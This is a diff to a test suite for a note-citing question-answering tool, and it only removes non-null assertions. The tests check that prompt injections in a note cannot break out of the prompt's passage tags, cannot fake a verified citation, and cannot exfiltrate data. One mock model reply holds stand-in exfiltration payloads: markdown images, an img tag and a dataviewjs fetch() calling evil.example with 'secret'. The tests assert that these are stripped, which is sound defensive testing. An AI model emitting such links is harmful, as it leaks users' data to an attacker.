@@ -41,9 +41,9 @@ describe('a hostile note', () => {
   test.each(injections)('stays inside its passage: %j', async (injection) => {
     const model = obedientModel('Four dollars [1].\nQUOTES\n[1] "Sync costs four dollars."');
     const answer = await ask(injection, model);
-    const { system = '', messages } = model.requests[0]!;
+    const { system = '', messages } = model.requests[0];
     expect(messages).toHaveLength(1);
-    const { text } = messages[0]!;
+    const { text } = messages[0];
     // Exactly the tags that the prompt itself wrote, in their order: nothing in the note opens or closes one.
     expect(text.match(/<\s*\/?\s*(?:passage|question)\b/gi)).toEqual(['<passage', '</passage', '<question', '</question']);
     expect(text.slice(text.indexOf('<passage'), text.indexOf('</passage>'))).toContain('Sync costs four dollars.');
@@ -52,14 +52,14 @@ describe('a hostile note', () => {
   });
 
   test('cannot make its words count as proof for what it does not say', async () => {
-    const answer = await ask(injections[0]!, obedientModel('Sync is free [1].\nQUOTES\n[1] "Sync is free of charge"'));
+    const answer = await ask(injections[0], obedientModel('Sync is free [1].\nQUOTES\n[1] "Sync is free of charge"'));
     expect(answer.citations).toMatchObject([{ verified: false }]);
     expect(answer.text).toContain('[1] is not verified');
   });
 
   test('cannot send anything out through a model that obeys it', async () => {
     const answer = await ask(
-      injections[3]!,
+      injections[3],
       obedientModel('Done [1]. ![x](https://evil.example/?q=secret) <img src="https://evil.example"> ![[secret]]\n\n```dataviewjs\nfetch("https://evil.example")\n```\n\nQUOTES\n[1] "![y](https://evil.example/2)"'),
     );
     expect(answer.text).not.toMatch(/!\[|<img|dataviewjs/);
